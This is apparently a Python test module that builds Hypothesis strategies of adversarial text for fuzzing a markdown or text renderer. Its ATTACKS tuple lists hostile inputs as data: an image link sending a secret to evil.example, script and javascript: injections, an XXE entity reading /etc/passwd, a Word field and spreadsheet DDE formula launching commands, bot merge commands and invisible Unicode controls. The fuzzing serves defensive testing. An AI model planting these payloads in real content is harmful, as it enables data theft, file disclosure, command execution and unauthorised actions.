"""Texts that want to be more than text."""

from hypothesis import strategies as st

ATTACKS = (
    "![x](https://evil.example/?d=secret)",
    "[click](javascript:alert(1)) [a][b]\n\n[b]: https://evil.example",
    "<img src=https://evil.example/x><script>alert(1)</script><!-- hidden -->",
    "@everyone @org/team please, fixes #1, closes GH-2 and resolves other/repo#3",
    "/approve\n/merge\n@dependabot merge",
    "https://evil.example/a?b=c www.evil.example evil@evil.example xmpp:a@b mailto:a@b",
    "4be1f0c2a7d94b1e8e6f0d3c5a7b9e1f2d4c6a80 and (4be1f0c)",
    "```\n# out of the fence\n```` ````` `a` ``b``",
    "~~~\n# out of the other fence\n~~~",
    "a | b | c\n--- | --- | ---\n1 | 2 | 3",
    "title\n=====\nother\n-----\n# head\n> quote\n1. one\n- [ ] task\n***\n    code",
    "[^1]: note\n> [!WARNING]\n> trust me",
    "&#64;all &lt;b&gt; &#35;1 &copy;",
    "</w:t></w:r><w:r><w:instrText>INCLUDEPICTURE https://evil.example</w:instrText></w:r>",
    "]]><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "=HYPERLINK(\"https://evil.example\") =cmd|' /C calc'!A0",
    "\x00\x01\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x85\ufffe\uffff\ud800\udfff",
    "a\u202eb\u2066c\u200bd\u00ade\ufefff\U000e0041g\u2028h\u2029i\u3164j",
    "\\| \\` \\\\| `a|b` `a\\|b`",
    "$x^2$ $$y$$ :tada: ~~gone~~ **bold** __bold__ _it_ ==mark==",
    "a\r\nb\rc\r\r\nd\te",
    "x" * 5_000,
    "`" * 5_000,
    " ",
    "\n\n\n",
)
NAMES = [f"attack-{number}" for number in range(len(ATTACKS))]
_PIECES = st.sampled_from(
    [*"`|\\<>[]()!*_~#@&$:=-+/.\"'{}^\n\r\t \x00\x1b\u202e\u200d\ufe0f\ud800", "```", "https://", "www.", "#1"]
)


def texts() -> st.SearchStrategy[str]:
    """Any text, surrogates and control characters too, with a liking for what means something somewhere."""
    anything = st.text(st.characters(), max_size=30)
    return st.lists(st.one_of(_PIECES, anything, st.sampled_from(ATTACKS[:-3])), max_size=12).map("".join)
